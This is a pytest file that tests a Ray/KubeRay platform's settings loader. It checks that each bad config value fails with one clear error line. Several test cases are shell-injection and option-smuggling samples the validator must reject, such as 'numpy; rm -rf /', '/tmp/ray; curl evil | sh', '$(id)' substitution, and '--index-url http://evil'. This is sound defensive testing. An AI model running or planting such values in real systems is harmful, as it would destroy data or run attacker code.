"""Settings: the stack files parse, and every bad input is one line naming the key and value."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from infra.clouds import load_settings
from infra.kuberay_release import ReleaseError
from infra.settings import SettingsError, image_ray_version
from tools.testing.pulumi_mocks import ROOT, RecordingMonitor, flatten, run_program, stack_config
from tools.testing.pulumi_mocks.aws import PlatformMocks

Mutation = Callable[[dict[str, Any]], None]
DIGEST = "@sha256:" + "ab" * 32


def _load(stack: str, mutate: Mutation | None = None, base_dir: Path = ROOT) -> Any:
    config = copy.deepcopy(stack_config(stack))
    if mutate:
        mutate(config)
    return load_settings(flatten(config), project="ray-platform", stack=stack, base_dir=base_dir)


def _ray(c: dict[str, Any]) -> dict[str, Any]:
    return c["ray-platform:ray"]  # type: ignore[no-any-return]


@pytest.mark.parametrize("stack", ["dev", "prod", "local"])
def test_stack_files_parse(stack: str) -> None:
    settings = _load(stack)
    assert settings.stack == stack
    assert settings.mode == ("prod" if stack == "prod" else "dev")


def test_mode_is_independent_of_stack_name() -> None:
    def make_prod(c: dict[str, Any]) -> None:
        c["ray-platform:mode"] = "prod"
        _ray(c)["image"] = "rayproject/ray:2.60.0-py311" + DIGEST
        del _ray(c)["runtimeEnv"]["pip"]
        del _ray(c)["sharedPackages"]
        del _ray(c)["jupyter"]

    settings = _load("dev", make_prod)
    assert settings.stack == "dev" and settings.mode == "prod" and settings.stateful.protect


def test_mode_decides_storage_once() -> None:
    dev, prod = _load("dev").stateful, _load("prod").stateful
    assert (dev.protect, dev.force_destroy, dev.backups, dev.customer_managed_keys) == (
        False,
        True,
        False,
        False,
    )
    assert (prod.protect, prod.force_destroy, prod.backups, prod.customer_managed_keys) == (
        True,
        False,
        True,
        True,
    )
    assert (dev.image_repository, prod.image_repository) == (False, True)


def test_settings_are_frozen() -> None:
    settings = _load("dev")
    with pytest.raises(Exception, match="frozen"):
        settings.ray.head.memory = "1Gi"


def _set(path: str, value: Any) -> Mutation:
    """Set `ray.head.cpu`-style paths under ray-platform:<top>."""

    def mutate(c: dict[str, Any]) -> None:
        top, *rest = path.split(".")
        key = f"ray-platform:{top}"
        if not rest:
            c[key] = value
            return
        node = c.setdefault(key, {})
        for part in rest[:-1]:
            node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
        last = rest[-1]
        if last.isdigit():
            node[int(last)] = value
        else:
            node[last] = value

    return mutate


def _delete(top: str) -> Mutation:
    return lambda c: c.pop(f"ray-platform:{top}")


# Valid JSON in double quotes that bash would still change: `$(id)` runs, and `\\"` is a
# backslash followed by the quote that closes the string.
_SUBSTITUTED = '"{\\"$(id)\\": 1}"'
_UNQUOTED = '"{\\\\"a\\": 1}"'

BAD_INPUTS: list[tuple[str, str, Mutation, str]] = [
    (
        "dev",
        "image version differs from ray.version",
        _set("ray.image", "rayproject/ray:2.51.1-py311"),
        'ray-platform:ray.image ("rayproject/ray:2.51.1-py311") carries Ray 2.51.1 but '
        "ray.version is 2.60.0",
    ),
    (
        "dev",
        "min above max",
        _set("ray.workerGroups.0.minReplicas", 5),
        "ray-platform:ray.workerGroups[0].maxReplicas (4) is below minReplicas (5)",
    ),
    (
        "prod",
        "prod image by tag only",
        _set("ray.image", "rayproject/ray:2.60.0-py311"),
        'ray-platform:ray.image ("rayproject/ray:2.60.0-py311") must be pinned by digest in prod',
    ),
    (
        "prod",
        "prod runtime_env pip",
        _set("ray.runtimeEnv.pip", ["pandas==2.2.3"]),
        'ray-platform:ray.runtimeEnv.pip (["pandas==2.2.3"]) installs packages at run time',
    ),
    (
        "prod",
        "prod runtime_env conda",
        _set("ray.runtimeEnv.conda", {"dependencies": ["numpy"]}),
        'ray-platform:ray.runtimeEnv.conda ({"dependencies": ["numpy"]}) installs packages',
    ),
    (
        "prod",
        "prod runtime_env uv",
        _set("ray.runtimeEnv.uv", ["polars"]),
        'ray-platform:ray.runtimeEnv.uv (["polars"]) installs packages at run time',
    ),
    (
        "dev",
        "memory limit given separately",
        _set("ray.head.memoryLimit", "16Gi"),
        "ray-platform:ray.head.memoryLimit is not a known setting",
    ),
    (
        "dev",
        "worker group name not a Kubernetes name",
        _set("ray.workerGroups.0.name", "GPU_Workers"),
        'ray-platform:ray.workerGroups[0].name ("GPU_Workers") is not valid as a worker group',
    ),
    (
        "dev",
        "namespace not a Kubernetes name",
        _set("kubernetes.namespace", "Ray Team"),
        'ray-platform:kubernetes.namespace ("Ray Team") is not valid as a Kubernetes namespace',
    ),
    (
        "dev",
        "relative mount path",
        _set("storage.sharedFilesystem.mountPath", "mnt/shared"),
        'ray-platform:storage.sharedFilesystem.mountPath ("mnt/shared") must be an absolute path',
    ),
    (
        "dev",
        "operator version not semver",
        _set("operator.version", "1.5"),
        'ray-platform:operator.version ("1.5") is not a semantic version',
    ),
    (
        "dev",
        "unknown top-level key",
        _set("rayy", {"version": "2.52.0"}),
        "ray-platform:rayy is not a known setting",
    ),
    (
        "dev",
        "unknown nested key",
        _set("ray.head.cpus", "2"),
        "ray-platform:ray.head.cpus is not a known setting",
    ),
    (
        "dev",
        "mode not dev or prod",
        _set("mode", "staging"),
        "ray-platform:mode (\"staging\") Input should be 'dev' or 'prod'",
    ),
    (
        "dev",
        "mode missing",
        _delete("mode"),
        "ray-platform:mode is required but not set (one of dev, prod)",
    ),
    (
        "dev",
        "memory not a quantity",
        _set("ray.workerGroups.0.memory", "16 GB"),
        'ray-platform:ray.workerGroups[0].memory ("16 GB") is not a memory quantity',
    ),
    (
        "dev",
        "cpu not a quantity",
        _set("ray.head.cpu", "two"),
        'ray-platform:ray.head.cpu ("two") is not a CPU quantity',
    ),
    (
        "dev",
        "latest tag",
        _set("ray.image", "rayproject/ray:latest"),
        "ray-platform:ray.image (\"rayproject/ray:latest\") is not pinned: never ':latest'",
    ),
    (
        "dev",
        "image without any version",
        _set("ray.image", "rayproject/ray"),
        'ray-platform:ray.image ("rayproject/ray") needs a tag carrying Ray 2.60.0',
    ),
    (
        "dev",
        "runtime_env typo",
        _set("ray.runtimeEnv.piip", ["x"]),
        'ray-platform:ray.runtimeEnv.piip (["x"]) is not a runtime_env field Ray knows',
    ),
    (
        "dev",
        "token auth on old Ray",
        lambda c: _ray(c).update(version="2.50.0", image="rayproject/ray:2.50.0-py311"),
        'ray-platform:ray.auth ("token") needs Ray 2.52.0 or later (ray.version is 2.50.0)',
    ),
    (
        "dev",
        "duplicate worker group names",
        lambda c: _ray(c)["workerGroups"].append(dict(_ray(c)["workerGroups"][0])),
        'ray-platform:ray.workerGroups[1].name ("cpu") is used by two groups',
    ),
    (
        "dev",
        "aws without cluster name",
        lambda c: c["ray-platform:aws"].pop("clusterName"),
        "ray-platform:aws.clusterName is required but not set",
    ),
    (
        "dev",
        "aws without region",
        lambda c: c.pop("aws:region"),
        "aws:region is required for cloud aws",
    ),
    (
        "dev",
        "working_dir zip URI not a zip",
        _set("ray.runtimeEnv.working_dir", "s3://bucket/code/"),
        'ray-platform:ray.runtimeEnv.working_dir ("s3://bucket/code/") must point at a .zip',
    ),
    (
        "dev",
        "working_dir missing locally",
        _set("ray.runtimeEnv.working_dir", "./no-such-dir"),
        'ray-platform:ray.runtimeEnv.working_dir ("./no-such-dir") is not a directory',
    ),
    (
        "prod",
        "prod shared packages",
        _set("ray.sharedPackages", ["scikit-learn==1.5.2"]),
        'ray-platform:ray.sharedPackages (["scikit-learn==1.5.2"]) is dev only',
    ),
    (
        "dev",
        "structured key not a mapping",
        _set("storage", "efs"),
        'ray-platform:storage ("efs") must be a YAML mapping',
    ),
    (
        "dev",
        "negative replicas",
        _set("ray.workerGroups.0.maxReplicas", -1),
        "ray-platform:ray.workerGroups[0].maxReplicas (-1) Input should be greater than or equal",
    ),
    (
        "dev",
        "KMS key is not an ARN",
        _set("aws.efs.kmsKeyArn", "my-key"),
        'ray-platform:aws.efs.kmsKeyArn ("my-key") is not a KMS key',
    ),
    (
        "dev",
        "operator shares the Ray namespace",
        _set("operator.namespace", "ray"),
        'ray-platform:operator.namespace ("ray") must differ from kubernetes.namespace',
    ),
    (
        "local",
        "bucket on local",
        _set("storage.artifactBucket.enabled", True),
        "ray-platform:storage.artifactBucket.enabled (true) needs ray-platform:local.objectStore",
    ),
    (
        "dev",
        "shared package with shell",
        _set("ray.sharedPackages", ["numpy; rm -rf /"]),
        'ray-platform:ray.sharedPackages[0] ("numpy; rm -rf /") is not a pip requirement',
    ),
    (
        "dev",
        "shared package with a version pip refuses",
        _set("ray.sharedPackages", ["pandas==2.2.3", "numpy~=2"]),
        'ray-platform:ray.sharedPackages[1] ("numpy~=2") is not a pip requirement',
    ),
    (
        "dev",
        "shared package wildcard outside ==",
        _set("ray.sharedPackages", ["pandas>=2.2.*"]),
        'ray-platform:ray.sharedPackages[0] ("pandas>=2.2.*") is not a pip requirement',
    ),
    (
        "dev",
        "shared package named twice",
        _set("ray.sharedPackages", ["scikit-learn==1.5.2", "Scikit_Learn[alldeps]>=1.5"]),
        'ray-platform:ray.sharedPackages[1] ("Scikit_Learn[alldeps]>=1.5") names scikit-learn '
        "again (ray.sharedPackages[0]): one requirement per package",
    ),
    (
        "dev",
        "shared package is the JupyterLab Jupyter installs",
        _set("ray.sharedPackages", ["jupyterlab==4.0.0"]),
        'ray-platform:ray.sharedPackages[0] ("jupyterlab==4.0.0") names JupyterLab, which '
        "ray.jupyter.enabled installs itself at ray.jupyter.version (4.6.6): drop it here",
    ),
    (
        "dev",
        "package index not http",
        _set("ray.packageIndex", "ftp://10.88.0.1/index/"),
        'ray-platform:ray.packageIndex ("ftp://10.88.0.1/index/") must be an http:// or https:// '
        "URL of a PEP 503 simple index, e.g. http://10.88.0.1:3141/index/",
    ),
    (
        "local",
        "package index without a scheme",
        _set("ray.packageIndex", "10.88.0.1:3141/index/"),
        'ray-platform:ray.packageIndex ("10.88.0.1:3141/index/") must be an http:// or https://',
    ),
    (
        "dev",
        "package index with credentials",
        _set("ray.packageIndex", "https://ci:s3cret@pypi.example.com/simple/"),
        'ray-platform:ray.packageIndex ("https://ci:s3cret@pypi.example.com/simple/") carries '
        "credentials, which would be readable in every pod spec",
    ),
    (
        "dev",
        "package index with a bad port",
        _set("ray.packageIndex", "http://10.88.0.1:31x1/index/"),
        'ray-platform:ray.packageIndex ("http://10.88.0.1:31x1/index/") is not a URL',
    ),
    (
        "dev",
        "package index with an option smuggled in",
        _set("ray.packageIndex", "http://10.88.0.1/index/ --trusted-host evil"),
        "must be a URL without spaces",
    ),
    (
        "local",
        "autoscaler sidecar size",
        _set("ray.autoscaler", {"cpu": "fast", "memory": "512Mi"}),
        'ray-platform:ray.autoscaler.cpu ("fast") is not a CPU quantity such as 500m or 2',
    ),
    (
        "dev",
        "replicas given as true",
        _set("ray.workerGroups.0.maxReplicas", True),
        "ray-platform:ray.workerGroups[0].maxReplicas (true) must be a whole number",
    ),
    (
        "dev",
        "replicas beyond a sane bound",
        _set("ray.workerGroups.0.maxReplicas", 10**12),
        "ray-platform:ray.workerGroups[0].maxReplicas (1000000000000) Input should be less than",
    ),
    (
        "dev",
        "memory of 8 bytes",
        _set("ray.head.memory", 8),
        "ray-platform:ray.head.memory (8) is below 256Mi, too little for a Ray process",
    ),
    (
        "dev",
        "memory of zero",
        _set("ray.head.memory", "0Gi"),
        'ray-platform:ray.head.memory ("0Gi") is not a memory quantity',
    ),
    (
        "dev",
        "memory too small for Ray",
        _set("ray.head.memory", "100Mi"),
        'ray-platform:ray.head.memory ("100Mi") is below 256Mi',
    ),
    (
        "dev",
        "mount path hiding the system",
        _set("storage.sharedFilesystem.mountPath", "/etc/ray-platform"),
        'ray-platform:storage.sharedFilesystem.mountPath ("/etc/ray-platform") would hide',
    ),
    (
        "local",
        "mount path with shell characters",
        _set("storage.sharedFilesystem.mountPath", "/mnt/x;id"),
        'ray-platform:storage.sharedFilesystem.mountPath ("/mnt/x;id") must be an absolute path',
    ),
    (
        "dev",
        "namespace owned by Kubernetes",
        _set("kubernetes.namespace", "kube-system"),
        'ray-platform:kubernetes.namespace ("kube-system") is a namespace Kubernetes owns',
    ),
    (
        "dev",
        "invalid node selector key",
        _set("ray.workerGroups.0.nodeSelector", {"bad key!": "x"}),
        'ray-platform:ray.workerGroups[0].nodeSelector ({"bad key!": "x"}) has an invalid label',
    ),
    (
        "dev",
        "image reference with capitals",
        _set("ray.image", "RayProject/Ray:2.52.0"),
        'ray-platform:ray.image ("RayProject/Ray:2.52.0") is not a valid image reference',
    ),
    (
        "dev",
        "digest does not excuse a tag without the Ray version",
        _set("ray.image", "rayproject/ray:nightly@sha256:" + "ab" * 32),
        "needs a tag carrying Ray 2.60.0",
    ),
    (
        "dev",
        "release candidate tag",
        _set("ray.image", "rayproject/ray:2.52.0rc1-py311"),
        'ray-platform:ray.image ("rayproject/ray:2.52.0rc1-py311") needs a tag carrying Ray',
    ),
    (
        "prod",
        "prod wheels through py_modules",
        _set("ray.runtimeEnv.py_modules", ["s3://b/x.whl"]),
        'ray-platform:ray.runtimeEnv.py_modules (["s3://b/x.whl"]) installs wheels at run time',
    ),
    (
        "dev",
        "wildcard in the bucket prefix",
        _set("storage.artifactBucket.prefix", "ray/*"),
        'ray-platform:storage.artifactBucket.prefix ("ray/*") is not a key prefix',
    ),
    (
        "dev",
        "shared package smuggling a pip option",
        _set("ray.sharedPackages", ["pandas --index-url http://evil"]),
        'ray-platform:ray.sharedPackages[0] ("pandas --index-url http://evil") is not a pip',
    ),
    (
        "dev",
        "pip packages not strings",
        _set("ray.runtimeEnv.pip", {"packages": [1, 2]}),
        'ray-platform:ray.runtimeEnv.pip ({"packages": [1, 2]}) must be a list of requirement',
    ),
    (
        "dev",
        "working_dir over plain http",
        _set("ray.runtimeEnv.working_dir", "http://x/y.zip"),
        'ray-platform:ray.runtimeEnv.working_dir ("http://x/y.zip") must use s3://, gs:// or https://',
    ),
    (
        "dev",
        "cluster name with a space",
        _set("aws.clusterName", "ml dev"),
        'ray-platform:aws.clusterName ("ml dev") is not a cluster name',
    ),
    (
        "dev",
        "region with spaces",
        lambda c: c.update({"aws:region": "us west 2"}),
        'aws:region ("us west 2") is not an AWS region',
    ),
    (
        "local",
        "aws settings on a local stack",
        _set("aws", {"efsCsiDriver": "install"}),
        "ray-platform:aws is a setting of cloud aws; this stack's cloud is local",
    ),
    (
        "dev",
        "hostPath left in the shared file system block",
        _set("storage.sharedFilesystem.hostPath", "/data"),
        "ray-platform:storage.sharedFilesystem.hostPath has moved to ray-platform:local.hostPath "
        "(a setting of cloud local)",
    ),
    (
        "dev",
        "worker groups not a list",
        _set("ray.workerGroups", {"name": "cpu"}),
        'ray-platform:ray.workerGroups ({"name": "cpu"}) must be a list',
    ),
    (
        "dev",
        "version given as a YAML float",
        _set("operator.version", 1.5),
        "ray-platform:operator.version (1.5) must be a string (quote it in YAML",
    ),
    (
        "dev",
        "oci chart repository",
        _set("operator.chartRepo", "oci://ghcr.io/ray/charts"),
        'ray-platform:operator.chartRepo ("oci://ghcr.io/ray/charts") must be an https://',
    ),
    (
        "dev",
        "security group that is not an id",
        _set("aws.efs.allowedSecurityGroups", ["nodes"]),
        "ray-platform:aws.efs.allowedSecurityGroups ([\"nodes\"]) has 'nodes'",
    ),
    (
        "local",
        "security groups left in the shared file system block",
        _set("storage.sharedFilesystem.allowedSecurityGroups", ["sg-0123456789abcdef0"]),
        "ray-platform:storage.sharedFilesystem.allowedSecurityGroups has moved to "
        "ray-platform:aws.efs.allowedSecurityGroups (a setting of cloud aws)",
    ),
    (
        "dev",
        "KMS key left in the shared file system block",
        _set("storage.sharedFilesystem.kmsKeyArn", "arn:aws:kms:us-west-2:123456789012:key/k"),
        "ray-platform:storage.sharedFilesystem.kmsKeyArn has moved to "
        "ray-platform:aws.efs.kmsKeyArn",
    ),
    (
        "dev",
        "cluster name left in the kubernetes block",
        _set("kubernetes.clusterName", "ml-dev"),
        "ray-platform:kubernetes.clusterName has moved to ray-platform:aws.clusterName",
    ),
    (
        "local",
        "cluster name on a local stack",
        _set("kubernetes.clusterName", "kind"),
        "ray-platform:kubernetes.clusterName is not a setting of cloud local",
    ),
    (
        "local",
        "kubeconfig left in the kubernetes block",
        _set("kubernetes.kubeconfig", "/tmp/kubeconfig"),
        "ray-platform:kubernetes.kubeconfig has moved to ray-platform:local.kubeconfig",
    ),
    (
        "dev",
        "region set inside the aws block",
        _set("aws.region", "us-east-1"),
        "ray-platform:aws.region is not set here: it is aws:region",
    ),
    (
        "dev",
        "unknown cloud",
        _set("cloud", "azure"),
        'ray-platform:cloud ("azure") is not one of aws, gcp, local',
    ),
    (
        "dev",
        "jupyter without a token",
        lambda c: c.pop("ray-platform:jupyterToken"),
        "ray-platform:jupyterToken must be a secret of 16 or more characters when "
        "ray.jupyter.enabled",
    ),
    (
        "prod",
        "jupyter in prod",
        _set("ray.jupyter", {"enabled": True}),
        "ray-platform:ray.jupyter.enabled (true) is dev only",
    ),
    (
        "dev",
        "provider-managed operator on EKS",
        _set("operator.install", "managed"),
        'ray-platform:operator.install ("managed") is for a provider-managed KubeRay; cloud aws',
    ),
    (
        "dev",
        "operator without upgradeStrategy",
        _set("operator.version", "1.5.1"),
        'ray-platform:operator.version ("1.5.1") is older than 1.6.0',
    ),
    (
        "dev",
        "EFS CSI add-on installed without a pinned version",
        lambda c: c["ray-platform:aws"].pop("efsCsiDriverVersion"),
        'ray-platform:aws.efsCsiDriver ("install") needs aws.efsCsiDriverVersion',
    ),
    (
        "dev",
        "EFS CSI add-on version not an EKS build",
        _set("aws.efsCsiDriverVersion", "latest"),
        'ray-platform:aws.efsCsiDriverVersion ("latest") is not an EKS add-on version',
    ),
    (
        "dev",
        "mount-target subnet not an id",
        _set("aws.efs.subnetIds", ["private-a"]),
        "ray-platform:aws.efs.subnetIds ([\"private-a\"]) has 'private-a', which is not a subnet",
    ),
    (
        "dev",
        "network policy namespace invalid",
        _set("kubernetes.networkPolicy.allowFromNamespaces", ["Notebooks"]),
        'ray-platform:kubernetes.networkPolicy.allowFromNamespaces[0] ("Notebooks") is not valid',
    ),
    (
        "dev",
        "noncurrent version days zero",
        _set("storage.artifactBucket.noncurrentVersionDays", 0),
        "ray-platform:storage.artifactBucket.noncurrentVersionDays (0) Input should be greater",
    ),
    (
        "local",
        "ray start param that is not a number",
        _set("ray.head.rayStartParams.num-cpus", "lots"),
        'ray-platform:ray.head.rayStartParams.num-cpus ("lots") must be a whole number',
    ),
    (
        "local",
        "fractional CPUs, which ray start refuses",
        _set("ray.workerGroups.0.rayStartParams.num-cpus", "1.5"),
        'ray-platform:ray.workerGroups[0].rayStartParams.num-cpus ("1.5") must be a whole number',
    ),
    (
        "dev",
        "ray start param given as a YAML number",
        _set("ray.head.rayStartParams.num-gpus", 1),
        "ray-platform:ray.head.rayStartParams.num-gpus (1) must be a string",
    ),
    (
        "dev",
        "unknown ray start option",
        _set("ray.workerGroups.0.rayStartParams.num-cpu", "2"),
        'ray-platform:ray.workerGroups[0].rayStartParams.num-cpu ("2") is not an option of '
        "`ray start` (check its spelling)",
    ),
    (
        "local",
        "dashboard port out of range",
        _set("ray.head.rayStartParams.dashboard-port", "70000"),
        'ray-platform:ray.head.rayStartParams.dashboard-port ("70000") must be a port number',
    ),
    (
        "local",
        "worker port list with a word",
        _set("ray.head.rayStartParams.worker-port-list", "10002,ten"),
        'ray-platform:ray.head.rayStartParams.worker-port-list ("10002,ten") must be port numbers',
    ),
    (
        "local",
        "object store below Ray's minimum",
        _set("ray.head.rayStartParams.object-store-memory", "1000"),
        'ray-platform:ray.head.rayStartParams.object-store-memory ("1000") is below 78643200 bytes',
    ),
    (
        "local",
        "object store as big as the pod",
        _set("ray.head.rayStartParams.object-store-memory", str(2 * 1024**3)),
        'ray-platform:ray.head.rayStartParams.object-store-memory ("2147483648") is not below the '
        "pod's memory (ray.head.memory: 2Gi)",
    ),
    (
        "local",
        "more GPUs for Ray than the pod gets",
        _set("ray.workerGroups.0.rayStartParams.num-gpus", "1"),
        'ray-platform:ray.workerGroups[0].rayStartParams.num-gpus ("1") is more than the 0 GPU(s) '
        "the pod gets (ray.workerGroups[0].gpu)",
    ),
    (
        "local",
        "ray start param with shell text",
        _set("ray.head.rayStartParams.temp-dir", "/tmp/ray; curl evil | sh"),
        'ray-platform:ray.head.rayStartParams.temp-dir ("/tmp/ray; curl evil | sh") has characters '
        "the shell that runs `ray start` would interpret",
    ),
    (
        "local",
        "resources as bare JSON the shell would mangle",
        _set("ray.head.rayStartParams.resources", '{"custom": 1}'),
        'ray-platform:ray.head.rayStartParams.resources ("{\\"custom\\": 1}") must be a JSON '
        "object quoted for the shell",
    ),
    (
        "local",
        "resources with a name for a count",
        _set("ray.head.rayStartParams.resources", '"{\\"custom\\": \\"many\\"}"'),
        "must map resource names to non-negative numbers",
    ),
    (
        "local",
        "switch given as yes",
        _set("ray.head.rayStartParams.disable-usage-stats", "yes"),
        'ray-platform:ray.head.rayStartParams.disable-usage-stats ("yes") is a switch: only '
        '"true" works',
    ),
    (
        "local",
        "switch given false, which KubeRay just leaves out",
        _set("ray.head.rayStartParams.disable-usage-stats", "false"),
        'ray-platform:ray.head.rayStartParams.disable-usage-stats ("false") is a switch KubeRay '
        'leaves out for "false", the same as not setting it: remove the key',
    ),
    (
        "local",
        "boolean option given true, which KubeRay passes as a bare option",
        _set("ray.workerGroups.0.rayStartParams.include-log-monitor", "true"),
        'ray-platform:ray.workerGroups[0].rayStartParams.include-log-monitor ("true") needs a '
        'value: KubeRay passes "true" as a bare --include-log-monitor',
    ),
    (
        "local",
        "boolean option given false, which KubeRay drops",
        _set("ray.head.rayStartParams.include-log-monitor", "FALSE"),
        'ray-platform:ray.head.rayStartParams.include-log-monitor ("FALSE") is left out by '
        'KubeRay (it drops any option given "false" except log-color and include-dashboard), so '
        'it changes nothing; write "1" or "0"',
    ),
    (
        "local",
        "an option that needs a value given true",
        _set("ray.head.rayStartParams.node-name", "true"),
        'ray-platform:ray.head.rayStartParams.node-name ("true") needs a value',
    ),
    (
        "local",
        "log-color in a case its choices do not have",
        _set("ray.head.rayStartParams.log-color", "True"),
        'ray-platform:ray.head.rayStartParams.log-color ("True") must be one of auto, false, true',
    ),
    (
        "local",
        "head on a worker group",
        _set("ray.workerGroups.0.rayStartParams.head", "true"),
        'ray-platform:ray.workerGroups[0].rayStartParams.head ("true") would start a second head',
    ),
    (
        "local",
        "head on the head group",
        _set("ray.head.rayStartParams.head", "true"),
        'ray-platform:ray.head.rayStartParams.head ("true") is KubeRay\'s to set',
    ),
    (
        "local",
        "address on a worker group",
        _set("ray.workerGroups.0.rayStartParams.address", "10.0.0.5:6379"),
        'ray-platform:ray.workerGroups[0].rayStartParams.address ("10.0.0.5:6379") would replace '
        "the head's GCS address KubeRay gives each worker",
    ),
    (
        "local",
        "address on the head group",
        _set("ray.head.rayStartParams.address", "redis:6379"),
        'ray-platform:ray.head.rayStartParams.address ("redis:6379") on the head names an external '
        "Redis",
    ),
    (
        "local",
        "GCS port on a worker group",
        _set("ray.workerGroups.0.rayStartParams.port", "6380"),
        'ray-platform:ray.workerGroups[0].rayStartParams.port ("6380") is for the head only: '
        "`ray start` without --head refuses it, so the worker crash-loops",
    ),
    (
        "local",
        "include-dashboard on a worker group",
        _set("ray.workerGroups.0.rayStartParams.include-dashboard", "false"),
        'ray-platform:ray.workerGroups[0].rayStartParams.include-dashboard ("false") is for the '
        "head only",
    ),
    (
        "local",
        "dashboard port on a worker group",
        _set("ray.workerGroups.0.rayStartParams.dashboard-port", "8266"),
        'ray-platform:ray.workerGroups[0].rayStartParams.dashboard-port ("8266") only the head '
        "runs the dashboard; a worker ignores it",
    ),
    (
        "local",
        "glob characters in a path",
        _set("ray.head.rayStartParams.temp-dir", "/tmp/ray[0-9]"),
        'ray-platform:ray.head.rayStartParams.temp-dir ("/tmp/ray[0-9]") has characters the shell',
    ),
    (
        "local",
        "command substitution inside double-quoted resources",
        _set("ray.head.rayStartParams.resources", _SUBSTITUTED),
        f"ray-platform:ray.head.rayStartParams.resources ({json.dumps(_SUBSTITUTED)}) must be a "
        "JSON object quoted for the shell",
    ),
    (
        "local",
        "a backslash that ends the double quotes early",
        _set("ray.head.rayStartParams.system-config", _UNQUOTED),
        f"ray-platform:ray.head.rayStartParams.system-config ({json.dumps(_UNQUOTED)}) must be a "
        "JSON object quoted for the shell",
    ),
    (
        "local",
        "hostPath inside the image",
        _set("local.hostPath", "/etc/ray"),
        'ray-platform:local.hostPath ("/etc/ray") would hide or sit inside a directory',
    ),
]


@pytest.mark.parametrize(
    ("stack", "mutate", "expected"),
    [pytest.param(s, m, e, id=name) for s, name, m, e in BAD_INPUTS],
)
def test_bad_setting_is_one_line_naming_key_and_value(
    stack: str, mutate: Mutation, expected: str
) -> None:
    with pytest.raises(SettingsError) as info:
        _load(stack, mutate)
    message = str(info.value)
    assert "\n" not in message
    assert expected in message


@pytest.mark.parametrize(
    ("key", "value", "entry", "shared"),
    [
        (
            "pip",
            ["pandas==2.2.3", "scikit-learn==1.6.0"],
            "scikit-learn==1.6.0",
            "scikit-learn==1.5.2",
        ),
        ("pip", {"packages": ["Scikit_Learn>=1.6"]}, "Scikit_Learn>=1.6", "scikit-learn==1.5.2"),
        ("uv", ["scikit.learn"], "scikit.learn", "scikit-learn==1.5.2"),
        ("pip", ["jupyterlab==4.5.0"], "jupyterlab==4.5.0", "jupyterlab==4.6.6"),
    ],
    ids=["pip-list", "pip-packages-other-spelling", "uv", "jupyterlab"],
)
def test_runtime_env_may_not_name_a_shared_package(
    key: str, value: Any, entry: str, shared: str
) -> None:
    """The shared packages sit on PYTHONPATH, ahead of a job's pip/uv environment: naming one in
    the runtime_env installs a copy that never loads (the job runs the shared version)."""
    with pytest.raises(SettingsError) as info:
        _load("dev", _set(f"ray.runtimeEnv.{key}", value))
    name = "jupyterlab" if "jupyter" in entry else "scikit-learn"
    assert str(info.value) == (
        f'ray-platform:ray.runtimeEnv.{key} ("{entry}") names {name}, a shared package '
        f"({shared}): the shared copy is on PYTHONPATH, ahead of the job's environment, and "
        "would load instead; change its version in ray.sharedPackages, or drop it here"
    )


def test_runtime_env_packages_beside_the_shared_ones_are_fine() -> None:
    settings = _load("dev", _set("ray.runtimeEnv.pip", ["scikit-image==0.24.0", "rich"]))
    assert settings.ray.runtime_env["pip"] == ["scikit-image==0.24.0", "rich"]


def test_all_errors_are_reported_together() -> None:
    def two_faults(c: dict[str, Any]) -> None:
        _ray(c)["head"]["cpu"] = "two"
        c.setdefault("ray-platform:kubernetes", {})["namespace"] = "Bad_NS"

    with pytest.raises(SettingsError) as info:
        _load("dev", two_faults)
    assert "ray.head.cpu" in str(info.value) and "kubernetes.namespace" in str(info.value)


@pytest.mark.parametrize(
    "mutate",
    [
        _set("ray.image", "123456789012.dkr.ecr.us-west-2.amazonaws.com/team/app:2.60.0-py311-gpu"),
        _set("ray.image", "rayproject/ray-ml:2.60.0.abc123-py311"),
        _set("ray.image", "ghcr.io/acme/ray:cuda12.4.1-ray2.60.0"),
        _set("ray.head.memory", "7.5Gi"),
        _set("ray.head.memory", 8589934592),
        _set("ray.sharedPackages", ["torch==2.5.1+cu121", "numpy>=1.26,<2"]),
        _set("ray.sharedPackages", ["scikit-learn[alldeps, tests]==1.5.2"]),
        _set("ray.sharedPackages", ["mylib @ git+https://github.com/acme/mylib@v1.2"]),
        _set("ray.sharedPackages", ["polars==1.9.*", "numpy~=2.1", "rich!=13.0.0"]),
        _set("ray.packageIndex", "http://10.88.0.1:3141/index/"),
        _set("ray.packageIndex", "https://pypi.example.com/simple"),
        _set("ray.packageIndex", "http://[fd00::1]:3141/root/pypi/+simple/"),
        _set("ray.workerGroups.0.rayStartParams.resources", "'{\"accelerator_a\": 1}'"),
        _set("ray.workerGroups.0.nodeSelector", {"karpenter.sh/capacity-type": "spot"}),
        _set("storage.artifactBucket.prefix", "team-a/ray/dev"),
        _set("storage.sharedFilesystem.size", "100Mi"),
        _set("kubernetes.namespace", "kube-ray"),
        _set(
            "ray.head.rayStartParams",
            {
                "num-cpus": "0",
                "dashboard-host": "0.0.0.0",
                "include-dashboard": "true",
                "include-log-monitor": "0",
                "log-color": "false",
                "disable-usage-stats": "TRUE",
                "system-config": "'{\"object_spilling_threshold\": 0.9}'",
            },
        ),
        _set(
            "ray.workerGroups.0.rayStartParams",
            {
                "num-cpus": "8",
                "object-store-memory": "4000000000",
                "resources": '"{\\"accelerator_a\\": 1, \\"slots\\": 0.5}"',
                "worker-port-list": "10002,10003",
                "include-log-monitor": "no",
                "block": "true",
                "verbose": "true",
                "temp-dir": "/tmp/ray",
                "labels": "zone=a,tier=spot",
            },
        ),
    ],
)
def test_real_world_values_are_accepted(mutate: Mutation) -> None:
    assert _load("dev", mutate).stack == "dev"


def test_yaml_numbers_are_accepted_as_quantities() -> None:
    settings = _load("dev", _set("ray.head.cpu", 2))
    assert settings.ray.head.cpu == "2"


def test_working_dir_over_ray_upload_limit(tmp_path: Path) -> None:
    code = tmp_path / "code"
    code.mkdir()
    with (code / "blob.bin").open("wb") as f:
        f.truncate(101 * 1024 * 1024)  # sparse: no real disk used
    with pytest.raises(SettingsError, match="over the platform's 100 MiB working_dir limit"):
        _load("dev", _set("ray.runtimeEnv.working_dir", "code"), base_dir=tmp_path)


def test_unreadable_working_dir_is_a_settings_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "code").mkdir()

    def unreadable(path: Path, limit: int) -> int:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("infra.settings.rules._dir_size", unreadable)
    with pytest.raises(SettingsError, match=r'working_dir \("code"\) cannot be read'):
        _load("dev", _set("ray.runtimeEnv.working_dir", "code"), base_dir=tmp_path)


